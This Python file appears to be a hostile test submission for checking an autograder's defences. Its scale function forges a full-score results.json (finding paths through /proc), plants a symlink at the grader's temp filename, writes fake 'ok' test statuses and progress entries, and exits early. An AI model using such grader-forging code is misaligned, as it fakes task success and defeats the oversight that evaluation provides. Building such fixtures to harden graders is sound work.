"""Attack: forge the grader's files. add is honest (3 points); scale forges and exits.

scale writes a full-score results.json where the grader may write it (/autograder/results,
and the --results path read from the grader's command line in /proc), plants a symlink at
the grader's temporary name beside it (pointing to canary.txt), writes "ok" status files
with made-up outputs for scale_values and row_sums_values into its out folder, marks them
done in the progress file, then ends the process with os._exit(0).
"""

import contextlib
import glob
import itertools
import json
import os

import numpy as np

FORGED = json.dumps({"score": 6.0, "output": "FORGED", "tests": []})


def add(a, b):
    return a + b


def _results_paths():
    paths = ["/autograder/results/results.json"]
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as fh:
                argv = fh.read().split(b"\0")
        except OSError:
            continue
        for flag, value in itertools.pairwise(argv):
            if flag == b"--results" and b"hostile" in value:  # only the test's own folder
                paths.append(os.path.abspath(os.fsdecode(value)))
    return paths


def _out_dir():
    """The child's out folder: where its open progress file lives."""
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.endswith("/progress"):
            return os.path.dirname(target)
    return None


def _forge_results():
    for path in _results_paths():
        folder, name = os.path.split(path)
        with contextlib.suppress(OSError):
            os.makedirs(folder, exist_ok=True)
        try:
            os.symlink(os.path.join(folder, "canary.txt"), os.path.join(folder, f".{name}.tmp"))
            print("PLANTED", path, flush=True)
        except OSError:
            pass
        try:
            with open(path, "w") as fh:
                fh.write(FORGED)
            print("WROTE", path, flush=True)
        except OSError:
            pass


def _forge_statuses(x):
    out = _out_dir()
    if out is None:
        return
    forged = {
        "scale_values": {"out": np.zeros_like(x), "input_after": x, "input_before": x},
        "row_sums_values": {"out": np.zeros(4)},
    }
    for case, arrays in forged.items():
        np.savez(os.path.join(out, f"{case}.npz"), **arrays)
        with open(os.path.join(out, f"{case}.json"), "w") as fh:
            fh.write(json.dumps({"status": "ok"}))
    with open(os.path.join(out, "progress"), "a") as fh:
        fh.write("done scale_values\ndone row_sums_values\n")


def scale(x, s):
    _forge_results()
    _forge_statuses(x)
    os._exit(0)


def row_sums(x):
    raise NotImplementedError("row_sums")
